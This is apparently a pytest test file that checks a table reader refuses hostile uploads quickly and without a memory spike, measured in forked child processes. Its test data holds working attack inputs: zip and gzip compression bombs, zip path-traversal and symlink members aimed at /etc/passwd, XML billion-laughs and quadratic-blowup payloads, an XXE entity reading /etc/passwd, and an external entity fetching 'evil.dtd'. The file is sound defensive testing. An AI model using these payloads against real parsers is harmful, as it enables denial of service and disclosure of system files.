@@ -1,0 +1,201 @@
+"""Hostile deliveries are refused fast and without a memory spike, measured in a clean process.
+
+Each input is written to a file; one probe process imports the readers once and then forks
+a child per input, so each child's peak RSS (`ru_maxrss`, which starts afresh in a forked
+child) is that input's alone: the growth reported is the child's peak during `read_table`
+minus its peak before the call, counting everything (Rust, expat and zlib buffers too),
+which tracemalloc would not see. A control input that really loads 30 MiB shows the
+measurement is not vacuous.
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import stat
+import subprocess
+import sys
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.formats.builders import MiB, gzip_bomb, stored, zip_archive, zip_bomb
+
+REPO = Path(__file__).resolve().parents[2]
+MAX_SECONDS = 2.0
+MAX_GROWTH_MIB = 200
+
+PROBE = r"""
+import json, os, resource, sys, time
+
+from connectors.formats import FormatError, read_table
+
+
+def run(case):
+    with open(case["path"], "rb") as file:
+        data = file.read()
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
+    start = time.perf_counter()
+    try:
+        frame = read_table(data, case["options"], source_name=case["source_name"])
+        outcome = {"result": "loaded", "rows": frame.height}
+    except FormatError as error:
+        outcome = {"result": "FormatError", "message": str(error)}
+    except BaseException as error:  # reported, so the test can show what escaped
+        outcome = {"result": type(error).__name__, "message": str(error)[:500]}
+    outcome["seconds"] = time.perf_counter() - start
+    outcome["growth_mib"] = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+    return outcome
+
+
+results = {}
+for case in json.load(sys.stdin):
+    read_end, write_end = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(read_end)
+        try:
+            payload = json.dumps(run(case))
+        except BaseException as error:
+            payload = json.dumps({"result": "probe failed: " + repr(error)})
+        with os.fdopen(write_end, "w") as out:
+            out.write(payload)
+        os._exit(0)
+    os.close(write_end)
+    with os.fdopen(read_end) as pipe:
+        raw = pipe.read()
+    _, status = os.waitpid(pid, 0)
+    results[case["id"]] = json.loads(raw) if raw else {"result": f"child died, status {status}"}
+print(json.dumps(results))
+"""
+
+
+def _zipped(files: dict[str | zipfile.ZipInfo, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in files.items():
+            archive.writestr(name, content)
+    return buffer.getvalue()
+
+
+def _symlink_zip() -> bytes:
+    link = zipfile.ZipInfo("borgere.csv")
+    link.create_system = 3
+    link.external_attr = (stat.S_IFLNK | 0o777) << 16
+    return _zipped({link: b"/etc/passwd"})
+
+
+def _many_members(declared_count: int | None) -> bytes:
+    members = [stored(f"f{i:06}.csv", b"") for i in range(60_000)]
+    return zip_archive(members, declared_count=declared_count)
+
+
+BILLION_LAUGHS = (
+    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
+    + "".join(
+        f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'
+        for i in range(1, 10)
+    )
+    + "]>\n<lolz><r>&lol9;</r></lolz>"
+).encode()
+QUADRATIC = (f'<!DOCTYPE a [<!ENTITY x "{"x" * 50_000}">]><a><r>{"&x;" * 50_000}</r></a>').encode()
+XXE = b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<a><r>&xxe;</r></a>'
+PARAMETER_ENTITY = (
+    b'<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>'
+    b"<a><r>1</r></a>"
+)
+EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://example.invalid/a.dtd">\n<a/>'
+DEEP = b"<a>" * 200_000 + b"</a>" * 200_000
+
+
+def _control_csv() -> bytes:
+    lines = (f"{i};navn nummer {i};{i * 7919 % 100_003}\n" for i in range(900_000))
+    return gzip.compress(("id;navn;beloeb\n" + "".join(lines)).encode(), compresslevel=1)
+
+
+ZIP_CSV = {"type": "csv", "container": "zip"}
+XML = {"type": "xml", "record_path": "a/r"}
+
+# id: (build input, options, expected FormatError text)
+CASES: dict[str, tuple[Callable[[], bytes], dict[str, Any], str]] = {
+    "zip-bomb-1gib": (zip_bomb, ZIP_CSV, "would expand 1011 times"),
+    "zip-bomb-lying-header": (
+        lambda: zip_bomb(1024, declared_size=150 * MiB),
+        ZIP_CSV,
+        "this looks like a compression bomb",
+    ),
+    "zip-bomb-auto": (zip_bomb, {**ZIP_CSV, "container": "auto"}, "this looks like a zip bomb"),
+    "gzip-bomb-1gib": (gzip_bomb, {"type": "csv", "container": "gzip"}, "compression bomb"),
+    "zip-60k-members": (
+        lambda: _many_members(None),
+        ZIP_CSV,
+        "the zip archive has 60000 members, more than `max_members` (1000)",
+    ),
+    "zip-60k-members-lying-count": (
+        lambda: _many_members(1),
+        ZIP_CSV,
+        "the zip archive has 60000 members, more than `max_members` (1000)",
+    ),
+    "zip-traversal": (
+        lambda: _zipped({"../evil.csv": b"a\n1\n"}),
+        ZIP_CSV,
+        "a member whose path leaves the archive, '../evil.csv'",
+    ),
+    "zip-absolute-path": (
+        lambda: _zipped({"/etc/passwd": b"a\n1\n"}),
+        ZIP_CSV,
+        "a member with an absolute path, '/etc/passwd'",
+    ),
+    "zip-symlink": (_symlink_zip, ZIP_CSV, "member 'borgere.csv' is a symbolic link"),
+    "xml-billion-laughs": (lambda: BILLION_LAUGHS, XML, "<!DOCTYPE lolz> declaration"),
+    "xml-quadratic-blowup": (lambda: QUADRATIC, XML, "<!DOCTYPE a> declaration"),
+    "xml-xxe-external-entity": (lambda: XXE, XML, "<!DOCTYPE a> declaration"),
+    "xml-external-parameter-entity": (lambda: PARAMETER_ENTITY, XML, "DTDs are refused"),
+    "xml-external-dtd": (lambda: EXTERNAL_DTD, XML, "external DTD 'http://example.invalid/a.dtd'"),
+    "xml-200k-deep": (lambda: DEEP, XML, "no element matches `record_path` 'a/r'"),
+}
+
+
+@pytest.fixture(scope="module")
+def probe(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
+    folder = tmp_path_factory.mktemp("malicious")
+    cases = []
+    inputs = {case_id: (build, options) for case_id, (build, options, _) in CASES.items()}
+    inputs["control-30mib-csv"] = (_control_csv, {"type": "csv", "container": "gzip"})
+    for case_id, (build, options) in inputs.items():
+        path = folder / case_id
+        path.write_bytes(build())
+        cases.append({"id": case_id, "path": str(path), "options": options, "source_name": case_id})
+    completed = subprocess.run(
+        [sys.executable, "-c", PROBE],
+        input=json.dumps(cases),
+        capture_output=True,
+        text=True,
+        cwd=REPO,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+        timeout=180,
+        check=False,
+    )
+    assert completed.returncode == 0, completed.stderr
+    return json.loads(completed.stdout)
+
+
+@pytest.mark.parametrize("case_id", list(CASES))
+def test_refused_within_2_s_and_200_mb(probe: dict[str, dict[str, Any]], case_id: str) -> None:
+    outcome = probe[case_id]
+    assert outcome["result"] == "FormatError", outcome
+    assert CASES[case_id][2] in outcome["message"]
+    assert "\n" not in outcome["message"]
+    assert outcome["seconds"] < MAX_SECONDS, outcome
+    assert outcome["growth_mib"] < MAX_GROWTH_MIB, outcome
+
+
+def test_the_measurement_sees_a_real_load(probe: dict[str, dict[str, Any]]) -> None:
+    outcome = probe["control-30mib-csv"]
+    assert outcome["result"] == "loaded" and outcome["rows"] == 900_000, outcome
+    assert outcome["growth_mib"] > 30, outcome  # 30 MiB of text decompressed and parsed
